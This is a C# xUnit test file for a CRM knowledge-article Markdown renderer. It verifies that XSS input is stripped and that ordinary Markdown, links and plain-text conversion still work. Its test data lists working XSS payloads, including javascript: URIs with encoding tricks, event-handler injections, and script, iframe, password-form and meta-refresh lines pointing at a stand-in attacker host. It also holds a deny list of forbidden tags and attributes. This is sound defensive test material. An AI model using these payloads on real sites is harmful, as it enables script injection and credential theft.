using System.Text.RegularExpressions;
using Crm.Service.Features.Knowledge;

namespace Crm.Service.Tests.Features.Knowledge;

/// <summary>Hostile Markdown and HTML through the renderer: nothing that runs, styles or leaves the allowed schemes survives.</summary>
public sealed class ArticleHtmlTests
{
    public static TheoryData<string> Hostile => new()
    {
        "<script>alert(1)</script>",
        "Hello <script src=\"https://evil.example/x.js\"></script>",
        "[click](javascript:alert(1))",
        "[click](JaVaScRiPt:alert(1))",
        "[click](  javascript:alert(1) )",
        "[click](java&#x09;script:alert(1))",
        "[click](&#106;avascript:alert(1))",
        "<a href=\"javascript:alert(1)\">x</a>",
        "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
        "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
        "![x](javascript:alert(1))",
        "<img src=x onerror=alert(1)>",
        "<p onclick=\"alert(1)\">text</p>",
        "<div style=\"position:fixed;top:0;left:0;width:100%;height:100%\">cover</div>",
        "<style>body{display:none}</style>",
        "<iframe src=\"https://evil.example\"></iframe>",
        "<object data=\"x.swf\"></object><embed src=\"x.swf\">",
        "<svg onload=alert(1)><circle /></svg>",
        "<form action=\"https://evil.example\"><input name=password></form>",
        "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
        "<a href=\"vbscript:msgbox(1)\">x</a>",
        "<base href=\"https://evil.example/\">",
        "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example\">",
        "<link rel=stylesheet href=\"https://evil.example/x.css\">",
        "<table background=\"javascript:alert(1)\"><tr><td>x</td></tr></table>",
        "<div class=\"mud-overlay\" id=\"app\">x</div>",
        "`<script>` in code is text: <scr<script>ipt>alert(1)</script>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
        "<a href=\"https://ok.example\" target=\"_top\" onmouseover=\"alert(1)\">ok</a>",
    };

    [Theory]
    [MemberData(nameof(Hostile))]
    public void Hostile_input_renders_without_anything_that_runs_or_styles(string markdown)
    {
        var html = ArticleHtml.Render(markdown).ToLowerInvariant();
        // What the browser would act on is in the tags; escaped text (&lt;script&gt;) is only shown.
        var tags = string.Join(" ", Regex.Matches(html, "<[^>]*>").Select(m => m.Value));

        foreach (var forbidden in new[]
        {
            "<script", "javascript:", "vbscript:", "data:", " on", "style", "<iframe", "<object", "<embed", "<svg", "<math", "<form",
            "<input", "<base", "<meta", "<link", "<noscript", "class=", " id=", "target=", "background=",
        })
        {
            Assert.DoesNotContain(forbidden, tags, StringComparison.Ordinal);
        }

        Assert.DoesNotContain("<script", html, StringComparison.Ordinal);
    }

    [Fact]
    public void Ordinary_markdown_keeps_its_headings_emphasis_lists_tables_code_and_safe_links()
    {
        var html = ArticleHtml.Render("""
            ## Returns

            Return **any** item within *30 days*: see [our policy](https://shop.example/returns) or write to <help@shop.example>.

            - Unused
            - In its box

            | Days | Refund |
            |------|--------|
            | 30   | Full   |

            `ORDER-123` and [the help page](/help/returns-policy)
            """);

        Assert.Contains("<h2>Returns</h2>", html, StringComparison.Ordinal);
        Assert.Contains("<strong>any</strong>", html, StringComparison.Ordinal);
        Assert.Contains("<em>30 days</em>", html, StringComparison.Ordinal);
        Assert.Contains("<a href=\"https://shop.example/returns\" rel=\"noopener noreferrer nofollow\">our policy</a>", html, StringComparison.Ordinal);
        Assert.Contains("href=\"mailto:help@shop.example\"", html, StringComparison.Ordinal);
        Assert.Contains("<li>Unused</li>", html, StringComparison.Ordinal);
        Assert.Contains("<td>Full</td>", html, StringComparison.Ordinal);
        Assert.Contains("<code>ORDER-123</code>", html, StringComparison.Ordinal);
        Assert.Contains("href=\"/help/returns-policy\"", html, StringComparison.Ordinal);
    }

    [Fact]
    public void Script_in_a_code_span_stays_visible_text()
    {
        var html = ArticleHtml.Render("Never paste `<script>alert(1)</script>` anywhere.");

        Assert.Contains("<code>&lt;script&gt;alert(1)&lt;/script&gt;</code>", html, StringComparison.Ordinal);
    }

    [Fact]
    public void The_plain_text_of_an_article_has_no_markdown_marks_and_keeps_list_items_and_link_addresses()
    {
        const string markdown = "## Changing the address\n\nOpen the order and choose *Edit address*. See **[our delivery page](https://shop.example/delivery)**.\n\n"
            + "- Confirm with the customer\n- Ask the carrier for a `redirection`\n\nMore on https://shop.example/help <b>now</b>.";

        Assert.Equal(
            "Changing the address\nOpen the order and choose Edit address. See our delivery page (https://shop.example/delivery).\n"
            + "- Confirm with the customer\n- Ask the carrier for a redirection\nMore on https://shop.example/help now.",
            ArticleHtml.PlainText(markdown));
    }
}
